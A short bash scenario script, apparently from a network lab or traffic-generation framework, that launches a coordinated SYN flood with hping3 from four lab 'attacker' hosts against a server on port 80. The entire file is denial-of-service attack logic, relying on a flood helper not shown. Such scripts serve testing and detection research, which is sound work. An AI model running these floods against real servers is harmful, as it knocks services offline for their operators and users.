# shellcheck shell=bash
# about: SYN from four hosts of the town at once (hping3)
# type: attack
# kind: syn_flood
# target: server
# source: attacker attacker2 attacker3 attacker4
# tools: hping3
play() {
	local host

	PPS=$((PPS / 4))
	for host in attacker2 attacker3 attacker4; do
		flood "$host" "$SERVER_IP" -S -p 80 &
	done
	flood attacker "$SERVER_IP" -S -p 80
	wait
}
